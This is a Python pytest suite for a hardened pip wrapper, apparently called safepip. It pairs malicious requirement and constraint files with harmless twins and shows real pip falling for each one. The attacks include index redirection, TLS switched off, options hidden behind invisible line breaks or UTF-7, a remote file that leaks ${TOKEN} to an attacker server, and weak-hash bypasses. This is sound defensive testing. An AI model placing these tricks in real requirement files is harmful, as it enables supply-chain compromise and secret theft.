"""Attacks through requirement and constraint files, each with its harmless twin.

The real pip shows first that an attack does what it promises: which server it asks, what it installs.
"""

from __future__ import annotations

import codecs
import hashlib
import os
import threading
from collections.abc import Iterator

import pytest

from cli.conftest import Ended, Shell, publish, trusting
from support.sdists import make_sdist, sdist_filename
from support.server import IndexServer, Response
from support.wheels import make_wheel, wheel_filename
from threats.conftest import Run

FILE = wheel_filename("lib", "2.0")
OTHERS = make_wheel("lib", "2.0", files={"lib_was_replaced.py": ""})
"""What an attacker would have installed in the place of ``lib`` 2.0."""


def digest(content: bytes, algorithm: str = "sha256") -> str:
    return hashlib.new(algorithm, content).hexdigest()


LIB_1, LIB_2, EVIL = (digest(wheel) for wheel in (make_wheel("lib"), make_wheel("lib", "2.0"), OTHERS))
HASHED = f"lib==2.0 --hash=sha256:{LIB_2}\n"
POSIX = pytest.mark.skipif(os.name != "posix", reason="FIFOs and /dev/stdin are POSIX")


@pytest.fixture
def evil() -> Iterator[IndexServer]:
    """The attacker's index, with a newer ``lib`` and other bytes for 2.0; same authority, other port."""
    with IndexServer() as server:
        publish(server, "lib", "9.9")
        server.add_wheel(OTHERS, FILE)
        yield server


@pytest.fixture
def install(shell: Shell, index: IndexServer, safepip: Run) -> Run:
    """``install -r r.txt`` with safepip from the operator's index; words may follow."""

    def run(*more: str, environ: dict[str, str] | None = None) -> Ended:
        return safepip("install", "-r", "r.txt", *more, *trusting(index), environ=environ)

    return run


@pytest.fixture
def pip_installs(index: IndexServer, pip: Run) -> Run:
    """The same with pip, without its cache."""

    def run(*more: str, environ: dict[str, str] | None = None) -> Ended:
        return pip("install", "--no-cache-dir", "-r", "r.txt", *more, *trusting(index), environ=environ)

    return run


def refused(ended: Ended, rule: str, place: str) -> bool:
    """Whether the refusal names its rule, the place, and what to do."""
    wanted = (f"error[{rule}]", f"--> {place}", "= help:")
    assert all(words in ended.err for words in wanted), ended.err
    return ended.code == 10


# --- What files may say -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "row",
    [
        ("--index-url {evil}", 13),
        ("--ind {evil}", 7),
        ("-i{evil}", 3),
        ("--pypi-url={evil}", 12),
        ('--"extra"-index-url {evil}', 21),
        ("--prefer-binary --extra={evil}", 25),
        ("--find-links {evil}/lib/", 14),
    ],
    ids=lambda row: row[0],
)
def test_a_file_does_not_bring_its_own_index(
    shell: Shell, evil: IndexServer, pip_installs: Run, install: Run, row: tuple[str, int]
) -> None:
    line, column = row
    shell.write("r.txt", f"{line.format(evil=evil.url)}\nlib\n")
    pip_installs("--dry-run")
    assert evil.requests, "pip asks it"
    evil.requests.clear()

    assert refused(install("--dry-run"), "index-in-requirements", f"r.txt:1:{column}")
    assert evil.requests == []


@pytest.mark.parametrize("line", ["--trusted-host localhost", "--trus=localhost", "-c c.txt"])
def test_a_file_does_not_switch_tls_off(
    shell: Shell, pip: Run, safepip: Run, index: IndexServer, line: str
) -> None:
    shell.write("c.txt", "--trusted-host localhost\n")
    shell.write("r.txt", f"{line}\nlib\n")
    unverified = ("install", "--dry-run", "-r", "r.txt", "--index-url", index.url)
    assert pip(*unverified).code == 0, "pip believes any certificate"

    ended = safepip(*unverified)

    assert ended.code == 10
    assert "error[trusted-host]" in ended.err


@pytest.mark.parametrize(
    "line", ["--only-binary :all:", "--prefer-binary --pre", "--require-hashes", "--no-index -f wheels"]
)
def test_options_that_say_nothing_about_sources_work_in_a_file(shell: Shell, install: Run, line: str) -> None:
    (shell.folder / "wheels").mkdir()
    (shell.folder / "wheels" / FILE).write_bytes(make_wheel("lib", "2.0"))
    shell.write("r.txt", f"{line}\n{HASHED}")

    ended = install("--dry-run", "--find-links", "wheels")

    assert (ended.code, ended.out) == (0, "Would install lib-2.0\n"), ended.err


# --- Files against the command line -------------------------------------------------------------------


def test_a_file_does_not_replace_the_index_of_the_command_line(
    shell: Shell, index: IndexServer, evil: IndexServer, pip_installs: Run, install: Run
) -> None:
    shell.write("r.txt", f"--index-url {evil.url}\nlib\n")
    assert pip_installs("--dry-run").out.splitlines()[-1] == "Would install lib-9.9"
    assert index.requests == [], "pip has forgotten the index of the command line"
    evil.requests.clear()

    assert refused(install("--dry-run"), "index-in-requirements", "r.txt:1:13")
    assert evil.requests == []


def test_a_file_that_repeats_the_index_of_the_command_line_is_fine(
    shell: Shell, index: IndexServer, install: Run
) -> None:
    shell.write("r.txt", f"--index-url {index.url}/\n{HASHED}")

    assert install("--dry-run").out == "Would install lib-2.0\n"


def test_a_file_asks_for_no_sources_where_the_command_line_wants_wheels(
    shell: Shell, index: IndexServer, pip_installs: Run, install: Run
) -> None:
    shell.write("../config/safepip/policy.toml", '[builds]\nsdists = ["*"]\n[hashes]\nmode = "index"\n')
    index.add_file(make_sdist("lib", "3.0"), sdist_filename("lib", "3.0"))
    shell.write("r.txt", "--no-binary lib\nlib\n")
    pip_installs("--only-binary", ":all:", "--dry-run")
    assert f"/files/{sdist_filename('lib', '3.0')}" in index.paths_asked(), "pip takes the source"
    index.requests.clear()

    ended = install("--only-binary", ":all:", "--dry-run")

    assert (ended.code, ended.out) == (0, "Would install lib-2.0\n"), ended.err
    assert f"/files/{sdist_filename('lib', '3.0')}" not in index.paths_asked()
    assert "--no-binary lib (r.txt:1:13) has no effect" in ended.err


def test_a_file_may_ask_for_wheels_where_the_command_line_takes_sources(
    shell: Shell, index: IndexServer, install: Run
) -> None:
    shell.write("../config/safepip/policy.toml", '[builds]\nsdists = ["*"]\n[hashes]\nmode = "index"\n')
    index.add_file(make_sdist("lib", "3.0"), sdist_filename("lib", "3.0"))
    shell.write("r.txt", "--only-binary lib\nlib\n")

    ended = install("--dry-run", "--no-binary", "lib")

    assert (ended.code, ended.out) == (0, "Would install lib-2.0\n"), ended.err


# --- What an editor does not show ---------------------------------------------------------------------

BREAKS = ["\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


@pytest.mark.parametrize("character", BREAKS, ids=[f"U+{ord(one):04X}" for one in BREAKS])
def test_an_option_does_not_hide_behind_a_line_break_that_no_editor_shows(
    shell: Shell, evil: IndexServer, pip_installs: Run, install: Run, character: str
) -> None:
    text = f"# see the wiki{character}--index-url {evil.url}\nlib\n"
    (shell.folder / "r.txt").write_bytes(text.encode())
    pip_installs("--dry-run")
    assert evil.requests, "pip reads the second half of the comment"
    evil.requests.clear()

    assert refused(install("--dry-run"), "misleading-file", "r.txt:1:15")
    assert evil.requests == []


def test_windows_line_ends_and_comments_in_any_language_are_fine(shell: Shell, install: Run) -> None:
    (shell.folder / "r.txt").write_bytes(f"# größer, 更大\r\n{HASHED}\r\n".encode())

    assert install("--dry-run").code == 0


@pytest.mark.parametrize("codec", ["utf-7", "unicode_escape"])
def test_an_option_does_not_hide_in_an_encoding(
    shell: Shell, evil: IndexServer, pip_installs: Run, install: Run, codec: str
) -> None:
    hidden = {"utf-7": "# ok +AAo---index-url {}", "unicode_escape": "# ok \\x0a--index-url {}"}[codec]
    text = f"# -*- coding: {codec} -*-\n{hidden.format(evil.url)}\nlib\n"
    (shell.folder / "r.txt").write_bytes(text.encode())
    pip_installs("--dry-run")
    assert evil.requests, "pip decodes it"
    evil.requests.clear()

    assert refused(install("--dry-run"), "misleading-file", "r.txt:1:15")
    assert evil.requests == []


def test_a_servers_charset_does_not_hide_an_option(
    shell: Shell, index: IndexServer, evil: IndexServer, pip_installs: Run, install: Run
) -> None:
    body = f"# ok +AAo---index-url {evil.url}\nlib\n".encode()
    index.answer("/s.txt", Response(body=body, content_type="text/plain; charset=utf-7"))
    shell.write("r.txt", f"-r {index.origin}/s.txt\n")
    pip_installs("--dry-run")
    assert evil.requests, "pip follows the charset"
    evil.requests.clear()

    assert refused(install("--dry-run"), "misleading-file", "r.txt:1:4")
    assert evil.requests == []


@pytest.mark.parametrize("mark, codec", [(codecs.BOM_UTF8, "utf-8"), (codecs.BOM_UTF16_LE, "utf-16-le")])
def test_a_byte_order_mark_is_fine(shell: Shell, install: Run, mark: bytes, codec: str) -> None:
    (shell.folder / "r.txt").write_bytes(mark + HASHED.encode(codec))

    assert install("--dry-run").code == 0


# --- Variables ----------------------------------------------------------------------------------------


def test_a_variable_that_adds_an_option_or_changes_a_host_is_judged_by_what_it_says(
    shell: Shell, evil: IndexServer, pip_installs: Run, install: Run
) -> None:
    environ = {"MORE": f"--index-url {evil.url}", "HOST": evil.origin}
    for text, column in (("${MORE}\nlib\n", 1), ("-i ${HOST}/simple\nlib\n", 4)):
        shell.write("r.txt", text)
        pip_installs("--dry-run", environ=environ)
        assert evil.requests, "pip acts on it"
        evil.requests.clear()

        assert refused(install("--dry-run", environ=environ), "index-in-requirements", f"r.txt:1:{column}")
        assert evil.requests == []


def test_a_variable_in_place_of_a_secret_is_fine(shell: Shell, index: IndexServer, install: Run) -> None:
    url = index.url.replace("https://", "https://me:${TOKEN}@")
    shell.write("r.txt", f"--index-url {url}\n{HASHED}")

    ended = install("--dry-run", environ={"TOKEN": "s3cret"})

    assert (ended.code, "s3cret" in ended.err, "warning" in ended.err) == (0, False, False), ended.err


@pytest.mark.parametrize("option", ["-r", "-c"])
def test_a_file_carries_no_password_for_another_file(
    shell: Shell, index: IndexServer, install: Run, option: str
) -> None:
    serve(index, "/s.txt", HASHED)
    url = index.origin.replace("://", "://me:hunter2@") + "/s.txt"
    shell.write("r.txt", f"{option} {url}\n{HASHED}")

    ended = install("--dry-run")

    assert refused(ended, "credentials-in-url", "r.txt:1:4")
    assert "hunter2" not in ended.err
    shell.write("r.txt", f"{option} {url.replace('hunter2', '${TOKEN}')}\n{HASHED}")
    assert install("--dry-run", environ={"TOKEN": "hunter2"}).code == 0


def test_a_remote_file_gets_no_secret_out_of_a_variable(
    shell: Shell, index: IndexServer, evil: IndexServer, pip_installs: Run, install: Run
) -> None:
    spying = evil.url.replace("/simple", "/${TOKEN}")
    index.answer("/s.txt", Response(body=f"-i {spying}\nlib\n".encode(), content_type="text/plain"))
    shell.write("r.txt", f"-r {index.origin}/s.txt\n")
    pip_installs("--dry-run", environ={"TOKEN": "s3cret"})
    assert any("s3cret" in path for path in evil.paths_asked()), "pip sends it away"
    evil.requests.clear()

    ended = install("--dry-run", environ={"TOKEN": "s3cret"})

    assert refused(ended, "remote-reaches-local", f"{index.origin}/s.txt:1:")
    assert evil.requests == []
    assert "s3cret" not in ended.err


# --- Joined lines -------------------------------------------------------------------------------------


def test_backslashes_at_both_ends_hide_no_option(
    shell: Shell, evil: IndexServer, pip_installs: Run, install: Run
) -> None:
    shell.write("r.txt", f"\\--index-\\\nurl \\\n{evil.url}\nlib\n")
    pip_installs("--dry-run")
    assert evil.requests, "pip reads an option"
    evil.requests.clear()

    assert refused(install("--dry-run"), "index-in-requirements", "r.txt:3:1")
    assert evil.requests == []


@pytest.mark.parametrize(
    ("text", "place"),
    [
        ("lib==2.0 \\\n    # from our mirror\n    --hash=sha256:{}\n", "r.txt:3:12"),
        ("lib==2.0 # from our mirror \\\n    --hash=sha256:{}\n", "r.txt:1:10"),
        ("lib==2.0 \\\n\\# from our mirror \\\n    --hash=sha256:{}\n", "r.txt:2:2"),
    ],
    ids=["comment between", "trailing comment", "comment behind a backslash"],
)
def test_a_comment_does_not_take_the_hash_away(
    shell: Shell, pip_installs: Run, install: Run, text: str, place: str
) -> None:
    shell.write("r.txt", text.format("0" * 64))
    assert pip_installs("--dry-run").code == 0, "pip does not look at the hash"

    assert refused(install("--dry-run"), "misleading-file", place)


def test_hashes_on_lines_of_their_own_are_fine(shell: Shell, install: Run) -> None:
    shell.write(
        "r.txt", f"lib==2.0 \\\n    --hash=sha256:{'0' * 64} \\\n    --hash=sha256:{LIB_2}\n    # via app\n"
    )

    assert install("--dry-run").out == "Would install lib-2.0\n"


# --- What pip would ignore --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "column"),
    [
        ("lib==2.0 --index-url {}", 22),
        ("lib==2.0 --require-hashes", 10),
        ("lib==2.0 --only-binary :all:", 24),
        ("--pre lib==2.0", 7),
        ("-r base.txt --require-hashes", 13),
        ("-r base.txt -c limits.txt", 16),
    ],
)
def test_an_option_that_pip_would_ignore_is_refused_so_that_intent_is_effect(
    shell: Shell, pip_installs: Run, install: Run, line: str, column: int
) -> None:
    shell.write("base.txt", "lib\n")
    shell.write("limits.txt", "lib<1.5\n")
    shell.write("r.txt", line.format("https://h.example") + "\nlib\n")
    ended = pip_installs("--dry-run")
    assert (ended.code, "lib-2.0" in ended.out) == (0, True), "pip ignores it"

    assert refused(install("--dry-run"), "misleading-file", f"r.txt:1:{column}")


def test_a_tab_before_a_hash_fails_as_with_pip(shell: Shell, pip_installs: Run, install: Run) -> None:
    shell.write("r.txt", HASHED.replace(" ", "\t"))

    assert (pip_installs().code, install().code) == (1, 1)


def test_a_marker_with_spaces_is_fine(shell: Shell, install: Run) -> None:
    shell.write("r.txt", f"lib == 2.0 ; python_version > '3' --hash=sha256:{LIB_2} -C a=b\n")

    assert install("--dry-run").out == "Would install lib-2.0\n"


# --- Nested and remote files --------------------------------------------------------------------------


def serve(server: IndexServer, path: str, text: str) -> str:
    server.answer(path, Response(body=text.encode(), content_type="text/plain"))
    return server.origin + path


@pytest.mark.parametrize(
    "line",
    [
        "-r {folder}/local.txt",
        "-r file://{folder}/local.txt",
        "-c file:local.txt",
        "--find-links wheels",
        "./app",
    ],
)
def test_a_remote_file_names_nothing_on_this_machine(
    shell: Shell, index: IndexServer, install: Run, line: str
) -> None:
    shell.write("local.txt", HASHED)
    shell.write("app/pyproject.toml", "")
    url = serve(index, "/s.txt", line.format(folder=shell.folder) + "\n")
    shell.write("r.txt", f"-r {url}\n")

    ended = install("--dry-run")

    if line == "-r {folder}/local.txt":
        assert ended.code == 11, "a path of the server, which has no such file"
    else:
        assert refused(ended, "remote-reaches-local", f"{url}:1:")


def test_pip_lets_a_remote_file_read_a_local_one(shell: Shell, index: IndexServer, pip_installs: Run) -> None:
    """What the attack above relies on."""
    shell.write("local.txt", "lib==1.0\n")
    url = serve(index, "/s.txt", f"-r file://{shell.folder}/local.txt\n")
    shell.write("r.txt", f"-r {url}\n")

    assert pip_installs("--dry-run").out.splitlines()[-1] == "Would install lib-1.0"


@pytest.mark.parametrize("nested", [True, False])
def test_a_remote_file_is_read_from_hosts_that_policy_admits_and_no_others(
    shell: Shell, index: IndexServer, evil: IndexServer, install: Run, nested: bool
) -> None:
    shell.write("../config/safepip/policy.toml", f'[urls]\nallow = ["{index.origin}/*"]\n')
    other = serve(evil, "/t.txt", HASHED)
    if nested:
        url = serve(index, "/s.txt", f"-r {other}\n")
    else:
        url, _ = f"{index.origin}/s.txt", index.redirect("/s.txt", other)
    shell.write("r.txt", f"-r {url}\n")

    ended = install("--dry-run")

    assert refused(ended, "direct-url" if nested else "file-host", f"{url}:1:4" if nested else "r.txt:1:4")
    assert evil.requests == []


def test_a_remote_file_does_not_lead_to_plaintext(shell: Shell, index: IndexServer, install: Run) -> None:
    with IndexServer(plaintext=True) as plain:
        index.redirect("/s.txt", f"{plain.origin}/t.txt")
        for text in (f"-r {index.origin}/s.txt\n", f"-r {plain.origin}/t.txt\n"):
            shell.write("r.txt", text)
            assert refused(install("--dry-run"), "plaintext-link", "r.txt:1:4")
        assert plain.connections == 0


def test_files_inside_files_have_an_end(shell: Shell, install: Run) -> None:
    for number in range(60):
        shell.write(f"f{number}.txt", f"-r f{number + 1}.txt\n")
    shell.write("f60.txt", HASHED)
    shell.write("r.txt", "-r f0.txt\n")

    ended = install("--dry-run")

    assert ended.code == 1
    assert "more than 50 requirement files inside each other" in ended.err


def test_files_beside_each_other_are_found_here_and_there(
    shell: Shell, index: IndexServer, install: Run
) -> None:
    serve(index, "/deep/t.txt", "-c ../limits.txt\nlib --hash=sha256:" + LIB_1 + "\n")
    serve(index, "/limits.txt", "lib<2\n")
    shell.write("r.txt", "-r more/base.txt\n")
    shell.write("more/base.txt", "-r ../remote.txt\n")
    shell.write("remote.txt", f"-r {serve(index, '/s.txt', '-r deep/t.txt')}\n")

    assert install("--dry-run").out == "Would install lib-1.0\n"


# --- Constraint files ---------------------------------------------------------------------------------


@pytest.mark.parametrize("option", ["--index-url", "--extra-index-url", "--find-links"])
def test_a_constraint_file_does_not_bring_an_index(
    shell: Shell, evil: IndexServer, pip_installs: Run, install: Run, option: str
) -> None:
    shell.write("r.txt", "lib\n")
    shell.write("c.txt", f"{option} {evil.url}\n")
    pip_installs("--dry-run", "-c", "c.txt")
    assert evil.requests, "pip asks it"
    evil.requests.clear()

    ended = install("--dry-run", "-c", "c.txt")

    assert refused(ended, "index-in-requirements", f"c.txt:1:{len(option) + 2}")
    assert evil.requests == []


def test_a_constraint_file_does_not_add_what_nobody_sees(
    shell: Shell, pip_installs: Run, install: Run
) -> None:
    """``-r`` inside a constraint file asks for something: it is judged as what it is."""
    shell.write("r.txt", HASHED)
    shell.write("c.txt", "-r more.txt\n")
    shell.write("more.txt", "app\n")
    assert "app-1.0" in pip_installs("--dry-run", "-c", "c.txt", "--no-require-hashes").out

    assert refused(install("--dry-run", "-c", "c.txt"), "unhashed-requirement", "more.txt:1:1")


def test_plain_constraints_are_fine(shell: Shell, install: Run) -> None:
    shell.write("r.txt", f"lib --hash=sha256:{LIB_1}\n")
    shell.write("c.txt", "lib<2\nother==1.0\n")

    assert install("--dry-run", "-c", "c.txt").out == "Would install lib-1.0\n"


# --- Hashes ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("algorithm", ["md5", "sha1", "sha224"])
def test_a_hash_option_of_a_weak_algorithm_fails_as_with_pip(
    shell: Shell, pip_installs: Run, install: Run, algorithm: str
) -> None:
    shell.write("r.txt", f"lib==2.0 --hash={algorithm}:{digest(make_wheel('lib', '2.0'), algorithm)}\n")

    assert (pip_installs().code, install().code) == (1, 1)


@pytest.mark.parametrize("text", ["zz", LIB_2[:-1], f"{LIB_2}0", ""])
def test_a_hash_that_no_file_can_have_is_said_before_anything_is_fetched(
    shell: Shell, index: IndexServer, install: Run, text: str
) -> None:
    shell.write("r.txt", f"lib==2.0 --hash=sha256:{text}\n")

    assert refused(install(), "misleading-file", "r.txt:1:17")
    assert index.requests == []


@pytest.mark.parametrize("marker", ["", " ; sys_platform == 'nowhere'"])
def test_one_hash_asks_hashes_of_everything_as_with_pip(
    shell: Shell, pip_installs: Run, install: Run, marker: str
) -> None:
    """Also the hash of a line that another platform needs."""
    shell.write("r.txt", f"app==1.0{marker} --hash=sha256:{'0' * 64}\n")
    assert "In --require-hashes mode" in pip_installs("--dry-run", "lib").err

    assert refused(install("--dry-run", "lib"), "unhashed-requirement", "command line")


def test_a_hash_for_each_of_two_platforms_is_fine(shell: Shell, install: Run) -> None:
    shell.write("r.txt", f"lib==2.0 --hash=sha256:{'0' * 64} --hash=sha256:{LIB_2.upper()}\n")

    assert install("--dry-run").code == 0


@pytest.mark.parametrize("algorithm", ["md5", "sha1", "sha224"])
def test_a_weak_hash_in_a_url_admits_nothing(
    shell: Shell, index: IndexServer, pip_installs: Run, install: Run, algorithm: str
) -> None:
    weak = digest(make_wheel("lib", "2.0"), algorithm)
    shell.write("r.txt", f"lib @ {index.origin}/files/{FILE}#{algorithm}={weak}\n")
    assert pip_installs("--dry-run", "--require-hashes").code == 0, "pip trusts it"
    index.requests.clear()

    assert refused(install("--dry-run"), "weak-digest", "r.txt:1:1")
    assert index.requests == []


def test_a_strong_hash_in_a_url_is_fine(shell: Shell, index: IndexServer, install: Run) -> None:
    shell.write("r.txt", f"lib @ {index.origin}/files/{FILE}?a=1&b=2#sha256={LIB_2}\n")

    assert install("--dry-run", "--require-hashes").out == "Would install lib-2.0\n"


@pytest.mark.parametrize("tail", ["?a=1&md5={md5}&b=2#sha256={good}", "#md5={md5}&sha256={good}"])
def test_a_weak_hash_does_not_speak_for_the_strong_one_beside_it(
    shell: Shell, evil: IndexServer, pip_installs: Run, install: Run, tail: str
) -> None:
    tail = tail.format(md5=digest(OTHERS, "md5"), good=LIB_2)
    shell.write("r.txt", f"lib @ {evil.origin}/files/{FILE}{tail}\n")
    assert pip_installs("--dry-run", "--require-hashes").code == 0, "pip checks the first one only"
    evil.requests.clear()

    assert refused(install(), "ambiguous-url", "r.txt:1:1")
    assert evil.requests == []


def test_a_hash_option_and_one_in_the_url_must_both_agree(
    shell: Shell, evil: IndexServer, pip_installs: Run, install: Run
) -> None:
    url = f"{evil.origin}/files/{FILE}#md5={digest(OTHERS, 'md5')}"
    shell.write("r.txt", f"lib @ {url} --hash=sha256:{LIB_2}\n")
    assert pip_installs("--dry-run").code == 0, "either is enough for pip"

    ended = install()

    assert (ended.code, shell.installed()) == (13, set())
    assert "hash-mismatch" in ended.err


def test_the_same_hash_in_both_places_is_fine(shell: Shell, index: IndexServer, install: Run) -> None:
    url = f"{index.origin}/files/{FILE}#sha256={LIB_2}"
    shell.write("r.txt", f"lib @ {url} --hash=sha256:{LIB_2}\n")

    assert install("--dry-run").out == "Would install lib-2.0\n"


@pytest.fixture(params=["option", "nested", "environment", "configuration", "remote"])
def replacing(
    request: pytest.FixtureRequest, shell: Shell, index: IndexServer, evil: IndexServer
) -> tuple[tuple[str, ...], dict[str, str], str]:
    """A constraint with another file, brought in so: arguments, variables, and where it stands."""
    text = f"lib @ {evil.origin}/files/{FILE}#sha256={EVIL}\n"
    shell.write("r.txt", HASHED + ("-c outer.txt\n" if request.param == "nested" else ""))
    shell.write("outer.txt", "-c c.txt\n")
    shell.write("c.txt", text)
    config = shell.write("pip.conf", "[install]\nconstraint = c.txt\n")
    remote = serve(index, "/c.txt", text)
    more = {"option": ("-c", "c.txt"), "remote": ("-c", remote)}
    environ = {"environment": {"PIP_CONSTRAINT": "c.txt"}, "configuration": {"PIP_CONFIG_FILE": str(config)}}
    place = remote if request.param == "remote" else "c.txt"
    return more.get(request.param, ()), environ.get(request.param, {}), f"{place}:1:1"


def test_a_constraint_does_not_replace_a_requirements_source_and_hash(
    replacing: tuple[tuple[str, ...], dict[str, str], str], evil: IndexServer, pip_installs: Run, install: Run
) -> None:
    more, environ, place = replacing
    assert pip_installs("--dry-run", *more, environ=environ).code == 0
    assert f"/files/{FILE}" in evil.paths_asked(), "pip takes the attacker's file"
    evil.requests.clear()

    assert refused(install(*more, environ=environ), "direct-url", place)
    assert evil.requests == []


@pytest.mark.parametrize("place", ["git+https://h.example/lib@" + "a" * 40, "file:///srv/" + FILE])
def test_a_constraint_names_no_repository_and_no_path_either(shell: Shell, install: Run, place: str) -> None:
    shell.write("../config/safepip/policy.toml", '[vcs]\nallow = ["git+https://*"]\n')
    shell.write("r.txt", HASHED)
    shell.write("c.txt", f"lib @ {place}\n")

    assert refused(install("-c", "c.txt"), "direct-url", "c.txt:1:1")


def test_a_constraint_may_carry_the_hash_of_a_requirement(
    shell: Shell, pip_installs: Run, install: Run
) -> None:
    shell.write("r.txt", "lib\n")
    shell.write("c.txt", HASHED)
    wrong = shell.write("wrong.txt", f"lib==2.0 --hash=sha256:{'0' * 64}\n")

    assert install("--dry-run", "-c", "c.txt").out == "Would install lib-2.0\n"
    assert pip_installs("-c", str(wrong)).code != 0 != install("-c", str(wrong)).code
    assert shell.installed() == set()


def test_a_range_with_a_hash_takes_that_file_and_no_newer_one(shell: Shell, install: Run) -> None:
    """pip asks no exact version: the hash decides, and nothing else may."""
    shell.write("r.txt", f"lib>=1 --hash=sha256:{LIB_1}\n")
    assert install("--dry-run").out == "Would install lib-1.0\n"

    shell.write("r.txt", f"lib>=1 --hash=sha256:{'0' * 64}\n")
    assert install("--dry-run").code != 0


@pytest.mark.parametrize("line", ["-e ./app", "./app", "lib @ git+https://git.example/lib@" + "a" * 40])
def test_what_has_no_hash_is_refused_where_hashes_are_asked_for(
    shell: Shell, index: IndexServer, install: Run, pip_installs: Run, line: str
) -> None:
    shell.write("app/pyproject.toml", '[project]\nname = "app"\nversion = "1"\n')
    shell.write("r.txt", f"{HASHED}{line}\n")
    if "git" not in line:
        assert pip_installs("--dry-run").code == 1

    assert refused(install("--dry-run"), "unhashed-requirement", "r.txt:2:")
    assert index.requests == []


def test_a_local_wheel_with_its_hash_is_fine_there(shell: Shell, install: Run) -> None:
    (shell.folder / FILE).write_bytes(make_wheel("lib", "2.0"))
    shell.write("r.txt", f"./{FILE} --hash=sha256:{LIB_2}\n")

    ended = install("--dry-run", "--require-hashes")

    assert (ended.code, ended.out) == (0, "Would install lib-2.0\n"), ended.err


def test_nothing_is_fetched_for_a_file_that_lacks_a_hash(
    shell: Shell, index: IndexServer, pip_installs: Run, install: Run
) -> None:
    shell.write("r.txt", f"{HASHED}app @ {index.origin}/files/{wheel_filename('app', '1.0')}\n")
    theirs = pip_installs()
    app = digest(
        make_wheel("app", "1.0", requires=["lib>=1"], entry_points={"console_scripts": {"app": "app:main"}})
    )
    assert app in theirs.err, "pip fetches it and offers the hash of whatever came"
    index.requests.clear()

    ended = install()

    assert refused(ended, "direct-url", "r.txt:2:1")
    assert (index.requests, app in ended.err) == ([], False)


def test_a_dependency_without_a_hash_is_refused_before_its_file_is_fetched(
    shell: Shell, index: IndexServer, install: Run
) -> None:
    app = index.add_wheel(make_wheel("site", "1.0", requires=["lib==2.0"]), wheel_filename("site", "1.0"))
    site = digest(make_wheel("site", "1.0", requires=["lib==2.0"]))
    shell.write("r.txt", f"site==1.0 --hash=sha256:{site}\n")

    ended = install()

    assert (ended.code, "unhashed-requirement" in ended.err) == (10, True), ended.err
    assert not {f"/files/{FILE}", app} & set(index.paths_asked())
    shell.write("r.txt", f"site==1.0 --hash=sha256:{site}\n{HASHED}")
    assert install().code == 0


@pytest.mark.parametrize("hashes", [{}, {"md5": digest(make_wheel("other"), "md5")}])
def test_an_index_that_gives_no_strong_hash_is_not_believed(
    shell: Shell, index: IndexServer, pip: Run, safepip: Run, hashes: dict[str, str]
) -> None:
    index.add_wheel(make_wheel("other"), wheel_filename("other"), hashes=hashes)
    assert pip("install", "--dry-run", "other", *trusting(index)).code == 0

    ended = safepip("install", "other", *trusting(index))

    assert (ended.code != 0, shell.installed()) == (True, set()), ended.err
    assert safepip("install", "lib", *trusting(index)).code == 0


def test_no_file_takes_hash_checking_back(shell: Shell, pip_installs: Run, install: Run) -> None:
    shell.write("r.txt", f"--no-require-hashes\napp==1.0\n{HASHED}")
    assert pip_installs("--dry-run").code == 0

    ended = install("--dry-run")

    assert refused(ended, "unhashed-requirement", "r.txt:2:1")
    assert "warning[unhashed-requirement]: --no-require-hashes has no effect" in ended.err


# --- Other readers, and the moment of reading -----------------------------------------------------------


@pytest.mark.parametrize(
    "line", ["-r http://localhost:9/s.txt", "lib --index-url https://h.example", "# x\u2028app"]
)
def test_uninstall_reads_files_by_the_same_rules(shell: Shell, safepip: Run, line: str) -> None:
    shell.write("r.txt", f"{line}\n")

    ended = safepip("uninstall", "-y", "-r", "r.txt")

    assert (ended.code, "--> r.txt:1:" in ended.err) == (10, True), ended.err


def test_no_variable_lets_uninstall_read_past_the_rules(shell: Shell, index: IndexServer) -> None:
    shell.safepip("install", "lib", *trusting(index))
    environ = {"PIP_REQUIREMENT": "http://localhost:9/s.txt", "PIP_CERT": index.ca_path}
    ended = shell.safepip("uninstall", "-y", "app", environ=environ)
    assert refused(ended, "plaintext-link", "$PIP_REQUIREMENT")
    assert shell.installed() == {"lib-2.0"}

    environ["PIP_REQUIREMENT"] = serve(index, "/s.txt", "lib\n")
    ended = shell.safepip("uninstall", "-y", "app", environ=environ)

    assert (ended.code, shell.installed()) == (0, set()), ended.err
    assert "also asked for: -r https://" in ended.err
    assert index.paths_asked().count("/s.txt") == 1


def test_a_remote_file_is_no_business_of_freeze(shell: Shell, index: IndexServer) -> None:
    url = serve(index, "/s.txt", "lib\n")

    assert shell.safepip("freeze", "-r", url).code == 1
    assert index.requests == []
    shell.write("r.txt", "lib\n")
    assert shell.safepip("freeze", "-r", "r.txt").code == 0


@POSIX
def test_a_stream_is_read_once_and_what_was_read_is_what_counts(shell: Shell, index: IndexServer) -> None:
    piped = shell.safepip("install", "--dry-run", "-r", "/dev/stdin", *trusting(index), stdin=HASHED)
    assert (piped.code, piped.out) == (0, "Would install lib-2.0\n"), piped.err

    bad = shell.safepip("install", "-r", "/dev/stdin", *trusting(index), stdin="lib --pre\n")
    assert refused(bad, "misleading-file", "/dev/stdin:1:5")


@POSIX
def test_a_fifo_that_says_something_else_the_second_time_is_asked_once(
    shell: Shell, index: IndexServer
) -> None:
    fifo = shell.folder / "r.txt"
    os.mkfifo(fifo)
    writer = threading.Thread(target=fifo.write_text, args=(HASHED,), daemon=True)
    writer.start()

    ended = shell.safepip("install", "-r", "r.txt", *trusting(index))
    writer.join(10)

    assert (ended.code, shell.installed(), writer.is_alive()) == (0, {"lib-2.0"}, False), ended.err


def test_a_remote_file_is_fetched_once(shell: Shell, index: IndexServer, install: Run) -> None:
    """A server that answers something else the second time is not asked a second time."""
    index.answer("/s.txt", Response(body=HASHED.encode(), content_type="text/plain"), times=1)
    index.answer("/s.txt", Response(body=b"evil\n", content_type="text/plain"))
    shell.write("r.txt", f"-r {index.origin}/s.txt\n")

    assert install().code == 0
    assert index.paths_asked().count("/s.txt") == 1


# --- What the environment adds ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("variable", "told"),
    [
        ("PIP_REQUIREMENT", "also asked for: -r more.txt"),
        ("PIP_CONSTRAINT", "constrained by more.txt"),
        ("PIP_BUILD_CONSTRAINT", "builds constrained by more.txt"),
    ],
)
def test_files_that_a_variable_adds_are_told_and_judged(
    shell: Shell, install: Run, variable: str, told: str
) -> None:
    shell.write("r.txt", HASHED)
    shell.write("more.txt", HASHED)
    fine = install("--dry-run", environ={variable: "more.txt"})
    assert (fine.code, f"safepip: {told} (${variable})" in fine.err) == (0, True), fine.err

